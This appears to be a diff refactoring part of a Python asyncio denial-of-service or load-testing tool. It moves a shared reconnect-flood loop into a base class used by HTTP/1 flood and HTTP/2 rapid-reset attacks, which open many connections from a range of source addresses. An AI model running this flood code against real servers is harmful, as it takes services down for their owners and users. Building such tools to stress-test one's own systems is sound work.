@@ -370,14 +370,20 @@ class FloodProto(asyncio.Protocol):
             self.done.set_result(None)
 
 
-class H1Flood(Attack):
+class Reconnecting(Attack):
+    """Connections from every source address, each reopened as soon as it ends."""
+    proto = None  # the asyncio.Protocol class, built as proto(attack, done_future)
+
+    def port(self):
+        return self.a.port
+
     async def conn(self, src):
         loop = asyncio.get_running_loop()
         while self.left() > 0:
             done = loop.create_future()
             try:
                 t, _ = await asyncio.wait_for(loop.create_connection(
-                    lambda: FloodProto(self, done), self.a.host, self.a.port, local_addr=(src, 0)), 5)
+                    lambda: self.proto(self, done), self.a.host, self.port(), local_addr=(src, 0)), 5)
             except (OSError, TimeoutError):
                 self.stats.add("connect_failed")
                 await asyncio.sleep(0.2)
@@ -393,6 +399,10 @@ class H1Flood(Attack):
         a = self.a
         srcs = [s for i, s in enumerate(addresses(a.net, a.ips)) if i % a.parts == a.part]
         await asyncio.gather(*(self.conn(s) for s in srcs for _ in range(a.per_ip)))
+
+
+class H1Flood(Reconnecting):
+    proto = FloodProto
 
 
 class SlowAttack(Attack):
@@ -538,30 +548,11 @@ class RapidResetProto(asyncio.Protocol):
             self.done.set_result(None)
 
 
-class RapidReset(Attack):
-    async def conn(self, src):
-        loop = asyncio.get_running_loop()
-        while self.left() > 0:
-            done = loop.create_future()
-            try:
-                t, _ = await asyncio.wait_for(loop.create_connection(
-                    lambda: RapidResetProto(self, done), self.a.host, self.a.h2port or self.a.port,
-                    local_addr=(src, 0)), 5)
-            except (OSError, TimeoutError):
-                self.stats.add("connect_failed")
-                await asyncio.sleep(0.2)
-                continue
-            try:
-                await asyncio.wait_for(done, max(0.01, self.left()))
-            except TimeoutError:
-                t.abort()
-                return
-            await asyncio.sleep(0.01)
+class RapidReset(Reconnecting):
+    proto = RapidResetProto
 
-    async def run(self):
-        a = self.a
-        srcs = [s for i, s in enumerate(addresses(a.net, a.ips)) if i % a.parts == a.part]
-        await asyncio.gather(*(self.conn(s) for s in srcs for _ in range(a.per_ip)))
+    def port(self):
+        return self.a.h2port or self.a.port
 
 
 ATTACKS = {"idle": IdleAttack, "h1flood": H1Flood, "slow": SlowAttack, "rapidreset": RapidReset}
